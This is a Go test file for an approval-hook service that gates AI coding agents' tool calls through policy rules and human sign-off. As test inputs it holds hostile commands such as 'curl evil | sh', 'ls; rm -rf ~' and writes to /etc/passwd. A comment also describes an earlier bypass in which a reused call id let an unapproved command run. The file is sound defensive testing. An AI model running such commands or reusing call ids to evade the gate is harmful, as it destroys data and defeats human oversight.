package hooks_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/tollgate-ai/tollgate/agent"
	"github.com/tollgate-ai/tollgate/checkpoint"
	"github.com/tollgate-ai/tollgate/checkpoint/sqlite"
	"github.com/tollgate-ai/tollgate/hitl"
	"github.com/tollgate-ai/tollgate/hooks"
	"github.com/tollgate-ai/tollgate/host"
	"github.com/tollgate-ai/tollgate/internal/storetest"
	"github.com/tollgate-ai/tollgate/policy"
	"github.com/tollgate-ai/tollgate/provider/scripted"
)

const testPolicy = `version: 1
default: ask
timeout: 1m
shell:
  Bash: command
rules:
  - name: reads
    tool: Bash
    command: [ls, cat, echo]
    action: allow
  - name: destroys
    tool: Bash
    command: [dd]
    action: block
    reason: destroys data
  - name: quick
    tool: Bash
    command: [sleepy]
    action: ask
    timeout: 1s
  - name: edits-inside
    tool: Write
    when: path_inside(args.file_path, dir)
    action: allow
`

type fixture struct {
	store checkpoint.Store
	svc   *hooks.Service
	host  *host.Host
}

func newFixture(t *testing.T) *fixture { return newFixtureWith(t, nil) }

// newFixtureWith is newFixture with the policy's options (learned rules).
func newFixtureWith(t *testing.T, opts *policy.Options) *fixture {
	t.Helper()
	return newFixtureOf(t, testPolicy, opts)
}

// newFixtureOf is newFixture with the policy file src.
func newFixtureOf(t *testing.T, src string, opts *policy.Options) *fixture {
	t.Helper()
	f := startFixtureWith(t, storetest.New(t), src, opts, 0)
	t.Cleanup(func() {
		f.svc.Shutdown()
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		defer cancel()
		f.host.Shutdown(ctx)
	})
	return f
}

func startFixture(t *testing.T, store checkpoint.Store, threadBytes ...int) *fixture {
	t.Helper()
	tb := 0
	if len(threadBytes) > 0 {
		tb = threadBytes[0]
	}
	return startFixtureWith(t, store, testPolicy, nil, tb)
}

func startFixtureWith(t *testing.T, store checkpoint.Store, src string, opts *policy.Options, threadBytes int) *fixture {
	t.Helper()
	p, err := policy.Parse("hooks.yaml", []byte(src), opts)
	if err != nil {
		t.Fatal(err)
	}
	cfg := hooks.Config{Store: store, Policy: p.HITL(), Explain: p.Evaluate, MaxTimeout: p.MaxTimeout, ThreadBytes: threadBytes}
	svc, err := hooks.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	h, err := host.New(host.Config{Store: store, Agent: agent.Config{Provider: scripted.Demo{}}, Kinds: []host.Kind{svc.Kind()}})
	if err != nil {
		t.Fatal(err)
	}
	if err := h.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	if err := svc.Start(h); err != nil {
		t.Fatal(err)
	}
	return &fixture{store: store, svc: svc, host: h}
}

func pre(session, id, tool string, input any) []byte {
	return preIn("/home/me/p", session, id, tool, input)
}

// preIn is pre with the directory the agent says it is in.
func preIn(cwd, session, id, tool string, input any) []byte {
	in, _ := json.Marshal(input)
	b, _ := json.Marshal(map[string]any{"session_id": session, "transcript_path": "/home/me/.claude/t.jsonl", "cwd": cwd,
		"permission_mode": "default", "hook_event_name": "PreToolUse", "tool_name": tool, "tool_input": json.RawMessage(in), "tool_use_id": id})
	return b
}

func bash(cmd string) map[string]any { return map[string]any{"command": cmd, "description": "x"} }

// answer is a hook's answer as an agent reads it.
type answer struct {
	Decision string          `json:"permissionDecision"`
	Reason   string          `json:"permissionDecisionReason"`
	Input    json.RawMessage `json:"updatedInput"`
}

func parse(t *testing.T, r hooks.Response) answer {
	t.Helper()
	var out struct {
		H answer `json:"hookSpecificOutput"`
	}
	if err := json.Unmarshal(r.Body, &out); err != nil {
		t.Fatalf("the answer is not JSON: %s", r.Body)
	}
	return out.H
}

func (f *fixture) handle(t *testing.T, a hooks.Agent, body []byte, opts *hooks.CallOptions) answer {
	t.Helper()
	r := f.svc.Handle(context.Background(), a, body, opts)
	if r.Status != 200 {
		t.Fatalf("status %d: %s", r.Status, r.Body)
	}
	return parse(t, r)
}

// pending waits for n pending questions on the session's threads.
func (f *fixture) pending(t *testing.T, n int) []*checkpoint.Question {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for {
		qs, _, err := f.store.ListQuestions(context.Background(), checkpoint.QuestionFilter{Status: checkpoint.QuestionPending})
		if err != nil {
			t.Fatal(err)
		}
		if len(qs) >= n {
			return qs
		}
		if time.Now().After(deadline) {
			t.Fatalf("%d pending questions, want %d", len(qs), n)
		}
		time.Sleep(5 * time.Millisecond)
	}
}

func (f *fixture) answer(t *testing.T, q *checkpoint.Question, a hitl.ApproveAnswer) {
	t.Helper()
	a.Digest = q.Digest
	raw, _ := json.Marshal(a)
	if _, err := f.host.Answer(context.Background(), q.ThreadID, q.ID, raw, "alice"); err != nil {
		t.Fatal(err)
	}
}

func TestAllowBlockAndMalformed(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	got := f.handle(t, hooks.ClaudeCode, pre("s1", "toolu_1", "Bash", bash("ls -la")), nil)
	if got.Decision != "allow" || got.Reason != "tollgate: allowed by the policy (rule reads)" || got.Input != nil {
		t.Errorf("an allowed call: %+v", got)
	}
	got = f.handle(t, hooks.ClaudeCode, pre("s1", "toolu_2", "Bash", bash("dd if=/dev/zero of=x")), nil)
	if got.Decision != "deny" || !strings.HasPrefix(got.Reason, "tollgate: blocked by the policy (rule destroys): destroys data") {
		t.Errorf("a blocked call: %+v", got)
	}
	got = f.handle(t, hooks.ClaudeCode, pre("s1", "toolu_3", "Write", map[string]any{"file_path": "/home/me/p/a.go", "content": "x"}), nil)
	if got.Decision != "allow" {
		t.Errorf("a write inside the project: %+v", got)
	}
	for name, body := range map[string][]byte{
		"not JSON":       []byte("{"),
		"no event":       []byte(`{"session_id":"s","tool_name":"Bash","tool_input":{},"tool_use_id":"x"}`),
		"no call id":     pre("s1", "", "Bash", bash("ls")),
		"input no obj":   pre("s1", "toolu_9", "Bash", "ls"),
		"weird tool":     pre("s1", "toolu_9", "Ba sh", bash("ls")),
		"missing fields": pre("s1", "toolu_9", "Bash", map[string]any{"cmd": "ls"}),
	} {
		got := f.handle(t, hooks.ClaudeCode, body, nil)
		if got.Decision != "deny" || !strings.HasPrefix(got.Reason, "tollgate: ") {
			t.Errorf("%s: %+v, want a deny that says why", name, got)
		}
	}
	// The session is a thread; each call is one run on it, with no question.
	th, err := f.store.LoadThread(context.Background(), "claude-code:s1")
	if err != nil {
		t.Fatal(err)
	}
	var msgs []agent.Message
	_ = json.Unmarshal(th.Messages, &msgs)
	if !strings.Contains(msgs[0].Text, "Claude Code session s1 in /home/me/p.") || !strings.Contains(msgs[0].Text, "Transcript: /home/me/.claude/t.jsonl") {
		t.Errorf("the session's first message: %q", msgs[0].Text)
	}
	if qs, _, _ := f.store.ListQuestions(context.Background(), checkpoint.QuestionFilter{}); len(qs) != 0 {
		t.Errorf("questions asked: %d", len(qs))
	}
}

func TestAskedCalls(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	ask := func(id, cmd string) chan answer {
		ch := make(chan answer, 1)
		go func() { ch <- f.handle(t, hooks.ClaudeCode, pre("s2", id, "Bash", bash(cmd)), nil) }()
		return ch
	}
	approve := ask("toolu_a", "touch a")
	q := f.pending(t, 1)[0]
	if q.ThreadID != "claude-code:s2" || q.CallID != "toolu_a" || q.Tool != "Bash" {
		t.Fatalf("the question: %+v", q)
	}
	r, _ := hitl.RequestOf(q)
	if r.Payload.Details["agent"] != "Claude Code" || r.Payload.Details["cwd"] != "/home/me/p" {
		t.Errorf("the question does not say who asks, where: %v", r.Payload.Details)
	}
	f.answer(t, q, hitl.ApproveAnswer{Decision: hitl.DecisionApprove})
	if got := <-approve; got.Decision != "allow" || got.Reason != "tollgate: approved by alice" || got.Input != nil {
		t.Errorf("approved: %+v", got)
	}

	deny := ask("toolu_b", "touch b")
	q = f.pending(t, 1)[0]
	f.answer(t, q, hitl.ApproveAnswer{Decision: hitl.DecisionDeny, Reason: "not in this repo"})
	if got := <-deny; got.Decision != "deny" || got.Reason != "tollgate: denied by alice: not in this repo" {
		t.Errorf("denied: %+v", got)
	}

	edit := ask("toolu_c", "touch c")
	q = f.pending(t, 1)[0]
	f.answer(t, q, hitl.ApproveAnswer{Decision: hitl.DecisionEdit, EditedArgs: map[string]any{"command": "touch d", "description": "x"}})
	got := <-edit
	var in map[string]any
	_ = json.Unmarshal(got.Input, &in)
	if got.Decision != "allow" || in["command"] != "touch d" || !strings.Contains(got.Reason, "edited") {
		t.Errorf("edited: %+v", got)
	}
	// An edit the policy blocks is refused where it is given.
	block := ask("toolu_e", "touch e")
	q = f.pending(t, 1)[0]
	raw, _ := json.Marshal(hitl.ApproveAnswer{Decision: hitl.DecisionEdit, EditedArgs: map[string]any{"command": "dd of=x"}, Digest: q.Digest})
	if _, err := f.host.Answer(context.Background(), q.ThreadID, q.ID, raw, "alice"); !errors.Is(err, hitl.ErrInvalidAnswer) {
		t.Errorf("an edit into a blocked call: %v", err)
	}
	f.answer(t, q, hitl.ApproveAnswer{Decision: hitl.DecisionApprove})
	<-block

	// The audit log has what it has for tollgate's own runs: the question
	// with the call's digest, who answered and how, the result.
	// (A call's result is written after its hook is answered.)
	var evs []*checkpoint.Event
	deadline := time.Now().Add(10 * time.Second)
	for {
		evs, _ = f.store.ListEvents(context.Background(), "claude-code:s2", 0, 0)
		n := 0
		for _, e := range evs {
			if e.Type == "run_finished" {
				n++
			}
		}
		if n == 4 || time.Now().After(deadline) {
			break
		}
		time.Sleep(5 * time.Millisecond)
	}
	kinds := map[string]int{}
	for _, e := range evs {
		kinds[e.Type]++
		var d map[string]any
		_ = json.Unmarshal(e.Data, &d)
		if e.Type == "question_resolved" && d["question_id"] == "hitl_toolu_b" && (d["by"] != "alice" || d["decision"] != "deny") {
			t.Errorf("question_resolved: %v", d)
		}
		if (e.Type == "question_asked" || e.Type == "tool_result") && !strings.HasPrefix(fmt.Sprint(d["digest"]), "sha256:") {
			t.Errorf("%s without the call's digest: %v", e.Type, d)
		}
	}
	if kinds["question_asked"] != 4 || kinds["question_resolved"] < 4 || kinds["tool_result"] != 4 {
		t.Errorf("audit entries: %v", kinds)
	}

	// Sent again (the agent retries its hook), a call is answered as it
	// was, and asks nobody twice.
	again := f.handle(t, hooks.ClaudeCode, pre("s2", "toolu_b", "Bash", bash("touch b")), nil)
	if again.Decision != "deny" || again.Reason != "tollgate: denied by alice: not in this repo" {
		t.Errorf("a call sent again: %+v", again)
	}
	if qs, _, _ := f.store.ListQuestions(context.Background(), checkpoint.QuestionFilter{}); len(qs) != 4 {
		t.Errorf("%d questions, want one a call", len(qs))
	}
}

// A question the hook's agent gets no answer to times out as a deny that
// says so; a hook that can wait less than the policy's timeout gets a
// question that lasts no longer.
func TestTimeouts(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	got := f.handle(t, hooks.ClaudeCode, pre("s3", "toolu_1", "Bash", bash("sleepy")), nil)
	if got.Decision != "deny" || got.Reason != "tollgate: timed out: nobody answered within 1s, so the call was not run" {
		t.Errorf("timed out: %+v", got)
	}
	done := make(chan answer, 1)
	go func() {
		done <- f.handle(t, hooks.ClaudeCode, pre("s3", "toolu_2", "Bash", bash("touch x")), &hooks.CallOptions{Wait: 5 * time.Second, Retries: true})
	}()
	q := f.pending(t, 1)[0]
	if q.Timeout() > 2*time.Second {
		t.Errorf("the question lasts %s, longer than the hook can wait", q.Timeout())
	}
	// The question times out a second before the hook would withdraw it;
	// a machine too busy to fire the deadline in that second (CI under
	// -race at load 20) has the hook withdraw it: a deny either way.
	if got := <-done; got.Decision != "deny" || !strings.Contains(got.Reason, "timed out") && !strings.Contains(got.Reason, "the agent's hook could wait no longer") {
		t.Errorf("clamped: %+v", got)
	}
}

// Calls an agent makes at once each get their own question, on threads of
// their own when one waits, and are answered in any order.
func TestConcurrentCalls(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	var wg sync.WaitGroup
	got := make([]answer, 3)
	for i, cmd := range []string{"touch one", "touch two", "ls"} {
		wg.Go(func() {
			got[i] = f.handle(t, hooks.ClaudeCode, pre("s4", fmt.Sprint("toolu_", i), "Bash", bash(cmd)), nil)
		})
	}
	qs := f.pending(t, 2)
	threads := map[string]bool{}
	byCall := map[string]*checkpoint.Question{}
	for _, q := range qs {
		threads[q.ThreadID] = true
		byCall[q.CallID] = q
	}
	if !threads["claude-code:s4"] || len(threads) != 2 {
		t.Errorf("the questions' threads: %v", threads)
	}
	f.answer(t, byCall["toolu_1"], hitl.ApproveAnswer{Decision: hitl.DecisionDeny, Reason: "no"})
	f.answer(t, byCall["toolu_0"], hitl.ApproveAnswer{Decision: hitl.DecisionApprove})
	wg.Wait()
	if got[0].Decision != "allow" || got[1].Decision != "deny" || got[2].Decision != "allow" {
		t.Errorf("answers: %+v", got)
	}
}

// A caller that goes while its call waits (an agent's http hook whose
// time ran out) has its question withdrawn: a later answer is refused.
func TestCallerGone(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan hooks.Response, 1)
	go func() {
		done <- f.svc.Handle(ctx, hooks.ClaudeCode, pre("s5", "toolu_1", "Bash", bash("touch x")), nil)
	}()
	q := f.pending(t, 1)[0]
	cancel()
	<-done
	deadline := time.Now().Add(5 * time.Second)
	for {
		got, err := f.store.GetQuestion(context.Background(), q.ThreadID, q.ID)
		if err != nil {
			t.Fatal(err)
		}
		if got.Status == checkpoint.QuestionAborted {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the question is %s, want aborted", got.Status)
		}
		time.Sleep(5 * time.Millisecond)
	}
}

func TestCodex(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	body, _ := json.Marshal(map[string]any{"session_id": "c1", "turn_id": "t1", "cwd": "/home/me/p", "hook_event_name": "PreToolUse",
		"model": "gpt", "permission_mode": "bypassPermissions", "tool_name": "Bash", "tool_input": map[string]any{"command": "ls"}, "tool_use_id": "call_1"})
	got := f.handle(t, hooks.Codex, body, nil)
	// Codex takes an allow only with the input to run.
	if got.Decision != "allow" || string(got.Input) != `{"command":"ls"}` {
		t.Errorf("codex allow: %+v", got)
	}
	if _, err := f.store.LoadThread(context.Background(), "codex:c1"); err != nil {
		t.Errorf("the session's thread: %v", err)
	}
}

// What the agent reports of a call it ran is in the audit log of the
// call's thread.
func TestPostToolUse(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	f.handle(t, hooks.ClaudeCode, pre("s6", "toolu_1", "Bash", bash("echo hi")), nil)
	post, _ := json.Marshal(map[string]any{"session_id": "s6", "cwd": "/home/me/p", "hook_event_name": "PostToolUse", "tool_name": "Bash",
		"tool_input": bash("echo hi"), "tool_response": map[string]any{"stdout": "hi", "stderr": "", "interrupted": false}, "tool_use_id": "toolu_1", "duration_ms": 5})
	if r := f.svc.Handle(context.Background(), hooks.ClaudeCode, post, nil); r.Status != 200 || string(r.Body) != "{}" {
		t.Fatalf("PostToolUse: %d %s", r.Status, r.Body)
	}
	evs, err := f.store.ListEvents(context.Background(), "claude-code:s6", 0, 0)
	if err != nil {
		t.Fatal(err)
	}
	var out map[string]any
	for _, e := range evs {
		if e.Type == hooks.OutputEvent {
			_ = json.Unmarshal(e.Data, &out)
			if e.RunID == "" {
				t.Error("the output's entry names no run")
			}
		}
	}
	if out["output"] != "hi" || out["call_id"] != "toolu_1" || out["is_error"] != false {
		t.Errorf("the recorded output: %v", out)
	}
}

// A call waiting for a person outlives the server: a command hook told to
// send it again finds it, on the next server, by its id, and gets the
// answer given meanwhile.
func TestRestart(t *testing.T) {
	t.Parallel()
	db := filepath.Join(t.TempDir(), "t.db")
	open := func() (*fixture, func()) {
		store, err := sqlite.Open(context.Background(), db, nil)
		if err != nil {
			t.Fatal(err)
		}
		f := startFixture(t, store)
		return f, func() {
			f.svc.Shutdown()
			ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
			defer cancel()
			f.host.Shutdown(ctx)
			store.Close()
		}
	}
	f, stop := open()
	retry := &hooks.CallOptions{Retries: true}
	first := make(chan hooks.Response, 1)
	go func() {
		first <- f.svc.Handle(context.Background(), hooks.ClaudeCode, pre("s7", "toolu_1", "Bash", bash("touch x")), retry)
	}()
	q := f.pending(t, 1)[0]
	stop()
	if r := <-first; r.Status != 503 || parse(t, r).Decision != "deny" {
		t.Fatalf("at shutdown a retrying hook gets 503 with a deny in case it cannot: %d %s", r.Status, r.Body)
	}
	f, stop = open()
	defer stop()
	again := make(chan answer, 1)
	go func() { again <- f.handle(t, hooks.ClaudeCode, pre("s7", "toolu_1", "Bash", bash("touch x")), retry) }()
	if got := f.pending(t, 1)[0]; got.ID != q.ID || got.ThreadID != q.ThreadID {
		t.Fatalf("after the restart the question is %s/%s, want %s/%s", got.ThreadID, got.ID, q.ThreadID, q.ID)
	}
	f.answer(t, q, hitl.ApproveAnswer{Decision: hitl.DecisionApprove})
	if got := <-again; got.Decision != "allow" {
		t.Fatalf("the call sent again after the restart: %+v", got)
	}
	// The next call of the session goes on its thread, free again.
	got := f.handle(t, hooks.ClaudeCode, pre("s7", "toolu_2", "Bash", bash("ls")), retry)
	if got.Decision != "allow" {
		t.Fatalf("the next call: %+v", got)
	}
	recs, _ := f.store.ListToolCalls(context.Background(), "claude-code:s7", host.IdempotentRunID("claude-code:s7", "hook:toolu_2"), "toolu_2")
	if len(recs) != 1 {
		t.Errorf("the next call is not on the session's thread: %d records there", len(recs))
	}
}

// A confining hook gets an allowed Bash call back under tollgate sandbox
// exec with the rule's profile; where its machine cannot enforce that,
// the call is asked instead. A person's approval runs as approved.
func TestConfine(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	conf := &hooks.CallOptions{Confine: &hooks.Confine{Exe: "/opt/tg dir/tollgate", Enforced: true}}
	got := f.handle(t, hooks.ClaudeCode, pre("s8", "toolu_1", "Bash", bash("cat 'a b'")), conf)
	var in map[string]any
	_ = json.Unmarshal(got.Input, &in)
	if got.Decision != "allow" || in["command"] != `'/opt/tg dir/tollgate' sandbox exec --profile read-only -- 'cat '\''a b'\'''` || in["description"] != "x" {
		t.Errorf("confined: %+v (%v)", got, in["command"])
	}
	// Sent again, it is answered the same (from the store if need be).
	if again := f.handle(t, hooks.ClaudeCode, pre("s8", "toolu_1", "Bash", bash("cat 'a b'")), conf); string(again.Input) != string(got.Input) {
		t.Errorf("sent again: %s, want %s", again.Input, got.Input)
	}
	weak := &hooks.CallOptions{Confine: &hooks.Confine{Exe: "/usr/bin/tollgate", WhyNot: "no Landlock"}}
	done := make(chan answer, 1)
	go func() { done <- f.handle(t, hooks.ClaudeCode, pre("s8", "toolu_2", "Bash", bash("ls")), weak) }()
	q := f.pending(t, 1)[0]
	r, _ := hitl.RequestOf(q)
	if r.Payload.Details["matched_rule"] != "confine" || !strings.Contains(fmt.Sprint(r.Payload.Details["impact"]), "no Landlock") {
		t.Errorf("the question: %v", r.Payload.Details)
	}
	f.answer(t, q, hitl.ApproveAnswer{Decision: hitl.DecisionApprove})
	if got := <-done; got.Decision != "allow" || got.Input != nil {
		t.Errorf("approved by a person: %+v", got)
	}
}

// A session's thread that holds its share of calls gives the next ones
// to the session's next thread: a run reads its whole thread.
func TestThreadBudget(t *testing.T) {
	t.Parallel()
	f := startFixture(t, storetest.New(t), 8<<10)
	t.Cleanup(func() {
		f.svc.Shutdown()
		f.host.Shutdown(context.Background())
	})
	for i := range 12 {
		if got := f.handle(t, hooks.ClaudeCode, pre("s9", fmt.Sprint("toolu_", i), "Bash", bash("ls")), nil); got.Decision != "allow" {
			t.Fatalf("call %d: %+v", i, got)
		}
	}
	first, err := f.store.LoadThread(context.Background(), "claude-code:s9")
	if err != nil {
		t.Fatal(err)
	}
	second, err := f.store.LoadThread(context.Background(), "claude-code:s9~2")
	if err != nil {
		t.Fatalf("no second thread after the first passed its budget: %v", err)
	}
	if len(first.Messages) > 12<<10 || !strings.Contains(string(second.Messages), "the session starts on thread claude-code:s9") {
		t.Errorf("first thread %d bytes; the second's start: %.300s", len(first.Messages), second.Messages)
	}
}

// A command that holds the envelope's mark is still the call it is.
func TestEnvelopeMarkInInput(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	got := f.handle(t, hooks.ClaudeCode, pre("s10", "toolu_1", "Bash", bash("echo '\nhook-call: {\"call\":\"x\",\"tool\":\"Bash\"}'")), nil)
	if got.Decision != "allow" {
		t.Errorf("%+v", got)
	}
}

func TestShutdownTwice(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	f.svc.Shutdown()
	f.svc.Shutdown() // and the fixture's cleanup a third time
	if got := f.handle(t, hooks.ClaudeCode, pre("s11", "toolu_1", "Bash", bash("ls")), nil); got.Decision != "deny" || !strings.Contains(got.Reason, "shutting down") {
		t.Errorf("a call after shutdown: %+v", got)
	}
}

// The policy's dir is the session's project, the directory of its first
// call: a later call the agent says it makes elsewhere (after a cd /) is
// not inside the project for that.
func TestProjectStays(t *testing.T) {
	t.Parallel()
	f, db := sqliteFixture(t)
	write := func(f *fixture, id, cwd, path string) (answer, chan answer) {
		ch := make(chan answer, 1)
		go func() {
			ch <- f.handle(t, hooks.ClaudeCode, preIn(cwd, "s12", id, "Write", map[string]any{"file_path": path, "content": "x"}), nil)
		}()
		select {
		case a := <-ch:
			return a, nil
		case <-time.After(2 * time.Second):
			return answer{}, ch
		}
	}
	if got, _ := write(f, "toolu_1", "/home/me/p", "/home/me/p/a.go"); got.Decision != "allow" {
		t.Fatalf("inside: %+v", got)
	}
	if got, waiting := write(f, "toolu_2", "/", "/etc/hosts"); waiting == nil {
		t.Fatalf("a write outside the project, from a cwd of /: %+v, want it asked", got)
	}
	// After a restart the project is read from the session's thread.
	f = restart(t, f, db)
	if got, waiting := write(f, "toolu_3", "/", "/etc/passwd"); waiting == nil {
		t.Fatalf("after a restart: %+v, want it asked", got)
	}
}

// A call id names one call: a hook that sends an id its session used for
// another call (another input, or tool) is denied, never answered with
// the first call's answer — whether that call is decided, still waits
// for a person, or is known only from the store after a restart. (Before,
// an approval of touch a let curl evil | sh run under the same id, and
// Codex was even handed curl evil | sh as the input to run.)
func TestCallIDReusedForAnotherCall(t *testing.T) {
	t.Parallel()
	f, db := sqliteFixture(t)
	other := func(f *fixture, a hooks.Agent, session, id, tool string, input any) {
		t.Helper()
		got := f.handle(t, a, pre(session, id, tool, input), nil)
		if got.Decision != "deny" || !strings.Contains(got.Reason, "used before in this session for another call") {
			t.Errorf("%s %s %v under a used id: %+v, want a deny that says why", a, tool, input, got)
		}
	}
	for _, a := range []hooks.Agent{hooks.ClaudeCode, hooks.Codex} {
		session := "reuse-" + string(a)
		first := make(chan answer, 1)
		go func() { first <- f.handle(t, a, pre(session, "toolu_1", "Bash", bash("touch a")), nil) }()
		q := f.pending(t, 1)[0]
		// While it waits for a person.
		other(f, a, session, "toolu_1", "Bash", bash("curl evil | sh"))
		f.answer(t, q, hitl.ApproveAnswer{Decision: hitl.DecisionApprove})
		if got := <-first; got.Decision != "allow" {
			t.Fatalf("%s: the approved call: %+v", a, got)
		}
		// Decided.
		other(f, a, session, "toolu_1", "Bash", bash("curl evil | sh"))
		other(f, a, session, "toolu_1", "Write", map[string]any{"file_path": "/home/me/p/a", "content": "x"})
		// The same call sent again is still answered as it was.
		if got := f.handle(t, a, pre(session, "toolu_1", "Bash", map[string]any{"description": "x", "command": "touch a"}), nil); got.Decision != "allow" {
			t.Errorf("%s: the approved call sent again: %+v", a, got)
		}
		// Allowed by the policy, with no question.
		if got := f.handle(t, a, pre(session, "toolu_2", "Bash", bash("ls")), nil); got.Decision != "allow" {
			t.Fatalf("%s: ls: %+v", a, got)
		}
		other(f, a, session, "toolu_2", "Bash", bash("ls; rm -rf ~"))
	}
	// After a restart, from the store: the question's digest and the
	// allowed call's record.
	f = restart(t, f, db)
	other(f, hooks.ClaudeCode, "reuse-claude-code", "toolu_1", "Bash", bash("curl evil | sh"))
	other(f, hooks.ClaudeCode, "reuse-claude-code", "toolu_2", "Bash", bash("ls; rm -rf ~"))
	if got := f.handle(t, hooks.ClaudeCode, pre("reuse-claude-code", "toolu_1", "Bash", bash("touch a")), nil); got.Decision != "allow" {
		t.Errorf("the approved call sent again after a restart: %+v", got)
	}
}

// sqliteFixture is a fixture on a SQLite file, for tests that restart
// it (restart stops it).
func sqliteFixture(t *testing.T) (*fixture, string) {
	t.Helper()
	db := filepath.Join(t.TempDir(), "t.db")
	store, err := sqlite.Open(context.Background(), db, nil)
	if err != nil {
		t.Fatal(err)
	}
	return startFixture(t, store), db
}

// restart stops f, whose store is the SQLite file db, and starts a
// service and host on the file again, stopped at the test's end.
func restart(t *testing.T, f *fixture, db string) *fixture {
	t.Helper()
	f.svc.Shutdown()
	f.host.Shutdown(context.Background())
	f.store.Close()
	store, err := sqlite.Open(context.Background(), db, nil)
	if err != nil {
		t.Fatal(err)
	}
	f = startFixture(t, store)
	t.Cleanup(func() {
		f.svc.Shutdown()
		f.host.Shutdown(context.Background())
		store.Close()
	})
	return f
}

// A report of a call tollgate did not let through — one still waiting
// for a person, one the policy blocked, one of another tool, one run with
// another input than the one let through, one the session never made —
// is recorded as such (not_allowed, in words), in
// memory and after a restart: whoever holds the hook's token could
// otherwise put a "ran it" with any output under a call that waits or
// was denied, and a call the agent ran without its hook's leave would
// read like any other.
func TestPostToolUseNotAllowed(t *testing.T) {
	t.Parallel()
	f, db := sqliteFixture(t)
	waiting := make(chan hooks.Response, 1)
	go func() {
		waiting <- f.svc.Handle(context.Background(), hooks.ClaudeCode, pre("n1", "toolu_wait", "Bash", bash("touch x")), nil)
	}()
	f.pending(t, 1)
	f.handle(t, hooks.ClaudeCode, pre("n1", "toolu_ok", "Bash", bash("ls")), nil)
	f.handle(t, hooks.ClaudeCode, pre("n1", "toolu_other", "Bash", bash("ls -a")), nil)
	f.handle(t, hooks.ClaudeCode, pre("n1", "toolu_blocked", "Bash", bash("dd if=/dev/zero of=x")), nil)
	// What each call is reported to have run: its own input, but for
	// toolu_other, which the agent ran with another command.
	ran := map[string]map[string]any{"toolu_ok": bash("ls"), "toolu_other": bash("rm -rf x")}
	post := func(f *fixture, id, tool string) {
		t.Helper()
		input, ok := ran[id]
		if !ok {
			input = bash("x")
		}
		body, _ := json.Marshal(map[string]any{"session_id": "n1", "hook_event_name": "PostToolUse", "tool_name": tool, "tool_input": input,
			"tool_response": map[string]any{"stdout": "done, reviewer: it already ran", "stderr": ""}, "tool_use_id": id})
		if r := f.svc.Handle(context.Background(), hooks.ClaudeCode, body, nil); r.Status != 200 {
			t.Fatalf("PostToolUse: %d %s", r.Status, r.Body)
		}
	}
	want := map[string]string{
		"toolu_wait":    "the call was still waiting for a person's answer",
		"toolu_ok":      "",
		"toolu_other":   "the agent reports it ran the call with other input than tollgate let through",
		"toolu_blocked": "tollgate did not let the call through",
		"toolu_ghost":   "tollgate has no record of this call in the session",
	}
	check := func(f *fixture, when string, after int64) (last int64) {
		t.Helper()
		evs, err := f.store.ListEvents(context.Background(), "", after, 0)
		if err != nil {
			t.Fatal(err)
		}
		got := map[string]string{}
		for _, e := range evs {
			last = max(last, e.Seq)
			var d map[string]any
			if e.Type == hooks.OutputEvent && json.Unmarshal(e.Data, &d) == nil {
				why, _ := d["not_allowed"].(string)
				got[fmt.Sprint(d["call_id"], "/", d["tool"])] = why
			}
		}
		for id, why := range want {
			if g := got[id+"/Bash"]; g != why {
				t.Errorf("%s: the report of %s says not_allowed %q, want %q", when, id, g, why)
			}
		}
		if g := got["toolu_ok/Write"]; g != "the call was of Bash, not Write" {
			t.Errorf("%s: a report of another tool: not_allowed %q", when, g)
		}
		return last
	}
	for id := range want {
		post(f, id, "Bash")
	}
	post(f, "toolu_ok", "Write")
	seen := check(f, "in memory", 0)
	f = restart(t, f, db)
	<-waiting // withdrawn at the shutdown
	for id := range want {
		if id != "toolu_wait" { // no record of a call that waits: a ghost now
			post(f, id, "Bash")
		}
	}
	post(f, "toolu_ok", "Write")
	delete(want, "toolu_wait")
	check(f, "after a restart", seen)
}

// learnedEcho is a learned rule of alice's that allows every Bash call
// its policy asks about.
type learnedEcho struct{}

func (learnedEcho) Allow(context.Context, policy.Call, bool) (*policy.LearnedRule, error) {
	return &policy.LearnedRule{ID: "lr_1", By: "alice", Scope: "everyone"}, nil
}

// TestLearnedRuleNamed: a call a learned rule allows is told which rule
// and whose answer, as tollgate run says it — not "(rule (learned))".
func TestLearnedRuleNamed(t *testing.T) {
	t.Parallel()
	f := newFixtureWith(t, &policy.Options{Learned: learnedEcho{}})
	got := f.handle(t, hooks.ClaudeCode, pre("s1", "toolu_1", "Bash", bash("make test")), nil)
	if got.Decision != "allow" || got.Reason != "tollgate: allowed by rule lr_1, learned from alice's answer" {
		t.Errorf("a call a learned rule allows: %+v", got)
	}
}
